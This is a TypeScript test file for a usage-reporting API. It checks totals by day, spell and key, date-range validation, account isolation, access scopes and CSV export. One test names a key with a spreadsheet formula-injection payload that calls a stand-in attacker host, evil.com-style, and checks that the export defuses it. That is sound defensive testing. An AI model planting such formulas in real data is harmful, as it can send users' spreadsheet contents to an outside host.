import { afterAll, beforeAll, expect, test } from "vitest";
import { command, publishSamples, publishWat, spinning } from "../support/spells.ts";
import { startTestWeb, type Answer, type TestWeb } from "../support/web.ts";

const clock = { offsetMs: 0 };
let web: TestWeb;
beforeAll(async () => {
  web = await startTestWeb({ clock });
  await publishSamples(web.platform, "echo");
  await publishWat(web.platform, "metered", spinning(1), { cents: 0, rateMicros: 1_000, fuel: 50_000_000 });
  await publishWat(web.platform, "failing", command("unreachable"), { cents: 1, fuel: 1_000_000 });
});
afterAll(() => web.close());

const DAY_MS = 86_400_000;
const today = () => new Date(Date.now() + clock.offsetMs).toISOString().slice(0, 10);
type Row = Readonly<Record<string, string | number | null>>;
const usage = (key: string, query: string, headers: Record<string, string> = {}) =>
  web.call("GET", `/v1/usage?${query}`, { key, headers });
const rowsOf = (answer: Answer) => {
  expect([answer.status, answer.text]).toEqual([200, answer.text]);
  return answer.body.data as unknown as Row[];
};

/** Moves the clock to noon of the month's first day, so that no day or month ends under a test. */
function toFirstOfMonth(): void {
  const now = new Date();
  clock.offsetMs = Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), 1, 12) - now.getTime();
}

const total = (rows: readonly Row[]) =>
  ["calls", "cost_micros", "fuel"].map((name) => rows.reduce((sum, row) => sum + Number(row[name]), 0));

test("a span adds up to the same by day, spell and key, and to what the history says", async () => {
  toFirstOfMonth();
  const { apiKey, sessionToken } = await web.person();
  const other = await web.call("POST", "/v1/keys", { key: sessionToken, body: { name: "other" } });
  const firstDay = today();
  await web.cast(apiKey, "echo", 1);
  await web.cast(apiKey, "metered", 1);
  await web.cast(sessionToken, "metered", 1);
  await web.cast(apiKey, "failing", 1);
  clock.offsetMs += DAY_MS;
  const secondDay = today();
  await web.cast(other.body.api_key, "echo", 1);

  const [days, spells, keys] = [
    rowsOf(await usage(apiKey, "by=day")),
    rowsOf(await usage(apiKey, "by=spell")),
    rowsOf(await usage(apiKey, "by=key")),
  ];
  expect(days.map(({ day, calls }) => [day, calls])).toEqual([
    [firstDay, 4],
    [secondDay, 1],
  ]);
  expect(spells.map((row) => [row["spell_name"], row["spell_key"], row["calls"]])).toEqual([
    ["echo", "dev.spell.echo", 2],
    ["metered", "test.metered", 2],
    ["failing", "test.failing", 1],
  ]);
  expect(keys.map((row) => [row["key_name"], row["key_prefix"], row["calls"]])).toEqual([
    ["test", apiKey.split("_")[2], 3],
    ["other", other.body.prefix, 1],
    [null, null, 1],
  ]);
  const casts = await web.call("GET", "/v1/casts", { key: apiKey });
  const history = casts.body.data as unknown as Row[];
  const expected = [
    history.length,
    history.reduce((sum, cast) => sum + Number(cast["cost_micros"]), 0),
    history.reduce((sum, cast) => sum + Number(cast["fuel_used"]), 0),
  ];
  expect(expected[2]).toBeGreaterThan(2_000_000);
  for (const rows of [days, spells, keys]) expect(total(rows)).toEqual(expected);
  expect((await web.call("GET", "/v1/budgets/usage", { key: apiKey })).body).toMatchObject({
    total_calls: expected[0],
    total_cost_micros: expected[1],
  });
  const metered = spells[1];
  expect(metered?.["cost_cents"]).toBe(Math.ceil(Number(metered?.["cost_micros"]) / 10_000));
  expect(Number(metered?.["cost_micros"]) % 10_000).not.toBe(0);
});

test("both ends belong to the span, and without them it is this month", async () => {
  toFirstOfMonth();
  const { apiKey } = await web.person();
  clock.offsetMs -= DAY_MS;
  const lastOfMonth = today();
  await web.cast(apiKey, "echo", 1);
  clock.offsetMs += DAY_MS;
  const first = today();
  await web.cast(apiKey, "echo", 1);
  const days = async (query: string) => rowsOf(await usage(apiKey, query)).map(({ day }) => day);
  expect(await days("")).toEqual([first]);
  expect((await usage(apiKey, "by=day")).body).toMatchObject({ by: "day", from: first, to: first });
  expect(await days(`from=${lastOfMonth}`)).toEqual([lastOfMonth, first]);
  expect(await days(`from=${lastOfMonth}&to=${lastOfMonth}`)).toEqual([lastOfMonth]);
  expect(await days(`to=${lastOfMonth}`)).toEqual([lastOfMonth]);
  expect(await days(`from=${first}&to=${first}`)).toEqual([first]);
});

test("nobody sees another account's usage, and nothing is an empty table", async () => {
  const [mine, theirs] = [await web.person(), await web.person()];
  await web.cast(theirs.apiKey, "echo", 1);
  for (const by of ["day", "spell", "key"]) {
    expect(rowsOf(await usage(mine.apiKey, `by=${by}`))).toEqual([]);
    expect(rowsOf(await usage(theirs.sessionToken, `by=${by}`))).toHaveLength(1);
  }
  const { text } = await usage(mine.apiKey, "by=spell&format=csv");
  expect(text).toBe("spell_name,spell_key,calls,cost_micros,cost_cents,fuel\r\n");
});

test.each([
  ["by=week", "by"],
  ["from=yesterday", "from"],
  ["from=2026-02-30", "from"],
  ["to=2026-11-01T00:00:00Z", "to"],
  ["from=2026-11-02&to=2026-11-01", "from"],
  ["from=2025-01-01&to=2026-01-02", "from"],
  ["from=9999-01-01", "from"],
  ["format=xml", "format"],
])("%s is refused, naming the field", async (query, field) => {
  const { apiKey } = await web.person();
  const answer = await usage(apiKey, query);
  expect(answer.status).toBe(400);
  expect(answer.body.fields.map((problem) => problem.field)).toEqual([field]);
});

test("a year with its leap day is not too long, and days far from now are an empty answer", async () => {
  const { apiKey } = await web.person();
  expect((await usage(apiKey, "from=2028-01-01&to=2028-12-31")).body).toMatchObject({ data: [] });
  expect((await usage(apiKey, "from=0001-01-01&to=0001-01-01")).status).toBe(200);
  expect((await usage(apiKey, "from=9999-12-31&to=9999-12-31")).status).toBe(200);
});

test("as CSV it is a file that no spreadsheet runs", async () => {
  const { apiKey, sessionToken } = await web.person();
  const name = '=HYPERLINK("http://evil.example?x="&A1,"x")';
  const made = await web.call("POST", "/v1/keys", { key: sessionToken, body: { name } });
  await web.cast(made.body.api_key, "echo", 1);
  const answers = [
    await usage(apiKey, "by=key&format=csv"),
    await usage(apiKey, "by=key", { Accept: "text/csv" }),
    await usage(apiKey, "by=key", { Accept: "application/json;q=0.5, text/csv" }),
  ];
  for (const { status, headers, text } of answers) {
    expect(status).toBe(200);
    expect(headers.get("Content-Type")).toBe("text/csv; charset=utf-8; header=present");
    expect(headers.get("Content-Disposition")).toMatch(
      /^attachment; filename="usage-by-key-\d{4}-\d\d-01-[\d-]{10}\.csv"$/,
    );
    expect(headers.get("Vary")).toContain("Accept");
    const [head, line, ...more] = text.split("\r\n");
    expect(head).toBe("key_id,key_name,key_prefix,calls,cost_micros,cost_cents,fuel");
    expect(line).toMatch(
      new RegExp(
        `^${made.body.id},"'=HYPERLINK\\(""http://evil.example\\?x=""&A1,""x""\\)",${made.body.prefix},1,10000,1,\\d+$`,
      ),
    );
    expect(more).toEqual([""]);
  }
  for (const headers of [{ Accept: "*/*" }, { Accept: "application/json" }, { Accept: "text/html" }])
    expect(rowsOf(await usage(apiKey, "by=key", headers))).toHaveLength(1);
  expect(rowsOf(await usage(apiKey, "by=key&format=json", { Accept: "text/csv" }))).toHaveLength(1);
});

test("without the scope read there is no usage, and without a key neither", async () => {
  const { apiKey } = await web.person({ scopes: ["cast", "keys", "budgets", "billing", "spells"] });
  const refused = await usage(apiKey, "format=csv");
  expect([refused.status, refused.body["scope"]]).toEqual([403, "read"]);
  expect(refused.headers.get("Content-Type")).toBe("application/problem+json");
  expect((await web.call("GET", "/v1/usage")).status).toBe(401);
});
